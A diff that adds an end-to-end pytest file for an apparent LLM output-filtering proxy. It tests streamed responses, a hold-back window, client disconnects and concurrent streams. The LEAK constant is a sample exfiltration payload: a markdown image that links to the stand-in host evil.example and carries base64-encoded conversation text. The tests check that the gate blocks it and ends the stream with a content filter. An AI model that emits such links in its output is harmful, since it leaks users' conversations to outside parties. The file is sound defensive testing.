@@ -1,0 +1,170 @@
+"""Streams, as the real SDK gets them: text that comes while the model still speaks, an offence
+that ends them, a client that leaves. The model waits for the client, so nothing hangs on time."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import threading
+from collections.abc import AsyncIterator, Iterator
+
+import pytest
+from fastapi.responses import StreamingResponse
+from openai import AsyncOpenAI, OpenAI
+from openai.types.chat import ChatCompletionChunk
+
+from service.settings import DEFAULT_POLICY
+from tests.e2e.gate import Gate, running, until
+from tests.e2e.messages import asked
+from tests.e2e.upstream import Upstream, streamed
+
+pytestmark = pytest.mark.timeout(240)
+
+WINDOW = 200
+WORDS = "The river runs past the old mill and the children feed the ducks on its bank. "
+LEAK = "Here: ![logo](https://evil.example/p.png?q=SGVyZSBpcyBhbGwgdGhhdCB3YXMgc2FpZA) is it. "
+PATIENT_S = 60.0
+
+
+def chunk(text: str | None, reason: str | None = None) -> str:
+    delta = {} if text is None else {"role": "assistant", "content": text}
+    choice = {"index": 0, "delta": delta, "finish_reason": reason}
+    head = {"id": "c-1", "object": "chat.completion.chunk", "created": 1, "model": "m"}
+    return f"data: {json.dumps({**head, 'choices': [choice]})}\n\n"
+
+
+class Speaker:
+    """Says a text word by word, and after so many characters waits until it was heard."""
+
+    def __init__(self, text: str, waits_after: int) -> None:
+        self._text = text
+        self._waits_after = waits_after
+        self.heard = threading.Event()
+        self.ended = threading.Event()
+
+    @property
+    def answer(self) -> StreamingResponse:
+        return StreamingResponse(self._speak(), media_type="text/event-stream")
+
+    async def _speak(self) -> AsyncIterator[str]:
+        said = 0
+        try:
+            for word in self._text.split(" "):
+                yield chunk(f"{word} ")
+                said += len(word) + 1
+                if said >= self._waits_after:
+                    await asyncio.to_thread(self.heard.wait, PATIENT_S)
+            yield chunk(None, "stop")
+            yield "data: [DONE]\n\n"
+        finally:
+            self.heard.set()
+            self.ended.set()
+
+
+@pytest.fixture(scope="module")
+def patient(model_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[OpenAI]:
+    """A client of a gate that holds a stream back for a long time, rather than by its clock."""
+    folder = tmp_path_factory.mktemp("patient")
+    policy = folder / "policy.yaml"
+    held = f"streaming: {{mode: hold, window: {WINDOW}, wait_s: {PATIENT_S}}}\n"
+    policy.write_text(DEFAULT_POLICY.read_text() + held)
+    with (
+        running(folder / "gate", "--upstream", f"{model_url}/v1", "--policy", str(policy)) as gate,
+        OpenAI(base_url=f"{gate.url}/v1", api_key="k", max_retries=0) as client,
+    ):
+        yield client
+
+
+def stream(client: OpenAI, n: int = 1) -> Iterator[ChatCompletionChunk]:
+    return iter(
+        client.chat.completions.create(model="m", messages=asked("Tell me."), stream=True, n=n)
+    )
+
+
+def said(chunks: list[ChatCompletionChunk]) -> str:
+    return "".join(c.delta.content or "" for one in chunks for c in one.choices)
+
+
+def test_the_first_text_comes_after_a_window_of_the_answer(
+    patient: OpenAI, upstream: Upstream
+) -> None:
+    """A little more than a window is all that the model says before something of it is read."""
+    speaker = Speaker(10 * WORDS, waits_after=WINDOW + 10)
+    chunks: list[ChatCompletionChunk] = []
+    with upstream.answering(speaker.answer):
+        for one in stream(patient):
+            chunks.append(one)
+            speaker.heard.set()
+    assert said(chunks) == f"{10 * WORDS} "
+    assert chunks[-1].choices[0].finish_reason == "stop"
+
+
+def test_an_offence_ends_what_was_begun(patient: OpenAI, upstream: Upstream) -> None:
+    speaker = Speaker(5 * WORDS + LEAK + 5 * WORDS, waits_after=WINDOW + 10)
+    chunks: list[ChatCompletionChunk] = []
+    with upstream.answering(speaker.answer):
+        for one in stream(patient):
+            chunks.append(one)
+            speaker.heard.set()
+        assert speaker.ended.wait(PATIENT_S)
+    assert said(chunks).startswith(WORDS)
+    assert "evil" not in said(chunks)
+    assert chunks[-1].choices[0].finish_reason == "content_filter"
+    refusals = [c.delta.refusal for one in chunks for c in one.choices if c.delta.refusal]
+    assert len(refusals) == 1
+    assert "link" in refusals[0]
+    assert len(upstream.received) == 1
+
+
+@pytest.mark.parametrize("pieces", [1, 5, 40, 4000])
+def test_a_link_split_over_chunks_is_found_in_any_choice(
+    client: OpenAI, upstream: Upstream, pieces: int
+) -> None:
+    with upstream.answering(streamed(WORDS, 4 * WORDS + LEAK, pieces=pieces)):
+        chunks = list(stream(client, n=2))
+    assert "evil" not in said(chunks)
+    ends = {c.index: c.finish_reason for one in chunks for c in one.choices if c.finish_reason}
+    assert ends[1] == "content_filter"
+
+
+def test_a_client_that_leaves_lets_the_model_go(
+    gate: Gate, client: OpenAI, upstream: Upstream
+) -> None:
+    speaker = Speaker(8 * WORDS, waits_after=5 * len(WORDS))
+    before = gate.log.count('"event": "request"')
+    with upstream.answering(speaker.answer):
+        got = client.chat.completions.create(model="m", messages=asked("Tell me."), stream=True)
+        next(iter(got))
+        got.close()
+        assert speaker.ended.wait(PATIENT_S)
+    until(lambda: gate.log.count('"event": "request"') == before + 1, 10, "nothing was remembered")
+
+
+def test_a_client_that_leaves_before_the_first_word_lets_the_model_go(
+    client: OpenAI, upstream: Upstream
+) -> None:
+    speaker = Speaker("A word.", waits_after=1)
+    with (
+        upstream.answering(speaker.answer),
+        pytest.raises(Exception, match="timed out"),
+        client.with_options(timeout=1.5).chat.completions.stream(
+            model="m", messages=asked("Tell me.")
+        ) as events,
+    ):
+        list(events)
+    assert speaker.ended.wait(PATIENT_S)
+
+
+def test_many_streams_at_once_each_say_their_own(gate: Gate, upstream: Upstream) -> None:
+    async def one(client: AsyncOpenAI) -> str:
+        got = await client.chat.completions.create(
+            model="m", messages=asked("Tell me."), stream=True
+        )
+        return "".join([c.delta.content or "" async for each in got for c in each.choices])
+
+    async def all_of_them() -> list[str]:
+        async with AsyncOpenAI(base_url=f"{gate.url}/v1", api_key="k", max_retries=0) as client:
+            return await asyncio.gather(*(one(client) for _ in range(8)))
+
+    with upstream.answering(streamed(6 * WORDS)):
+        assert asyncio.run(all_of_them()) == [6 * WORDS] * 8
